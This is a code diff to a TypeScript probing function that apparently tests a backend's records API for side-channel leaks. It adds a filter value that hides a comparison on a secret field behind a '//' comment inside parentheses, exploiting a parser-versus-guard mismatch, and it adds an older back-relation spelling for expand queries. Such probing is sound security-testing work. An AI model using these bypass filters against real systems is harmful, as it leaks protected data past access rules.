@@ -165,6 +165,10 @@ export async function probeSideChannels(options: SideChannelOptions): Promise<Si
             const filter = `(${path.segments.join(".")} ${op} ${literal(secret)}) || id = ${literal(anchor)}`;
             asked.push({ key: `${name} filter ${filter}`, path: recordsPath(name, { filter, sort: "id", perPage: "50" }) });
           }
+          // The same question hidden behind a comment inside parentheses (the engine's parser ends the
+          // group at the ")" after "//"; a guard that reads the comment as running to the end would not).
+          const hidden = `(id != "" // ) && ${path.segments.join(".")} != ${literal(secret)} || id = ${literal(anchor)}`;
+          asked.push({ key: `${name} filter ${hidden}`, path: recordsPath(name, { filter: hidden, sort: "id", perPage: "50" }) });
         }
       }
       for (const path of paths) {
@@ -175,6 +179,9 @@ export async function probeSideChannels(options: SideChannelOptions): Promise<Si
       }
       for (const chain of relationChains(paths)) {
         asked.push({ key: `${name} expand ${chain}`, path: recordsPath(name, { expand: chain, sort: "id", perPage: "50" }) });
+        // The engine's older spelling of a back-relation, "other(field)".
+        const oldSpelling = chain.replace(/(\w+)_via_(\w+)/g, "$1($2)");
+        if (oldSpelling !== chain) asked.push({ key: `${name} expand ${oldSpelling}`, path: recordsPath(name, { expand: oldSpelling, sort: "id", perPage: "50" }) });
         asked.push({ key: `${name} fields expand.${chain}`, path: recordsPath(name, { expand: chain, fields: `id,expand.${chain}`, sort: "id" }) });
         if (anchor) asked.push({ key: `${name}/${anchor} expand ${chain}`, path: recordsPath(name, { expand: chain }, anchor) });
       }
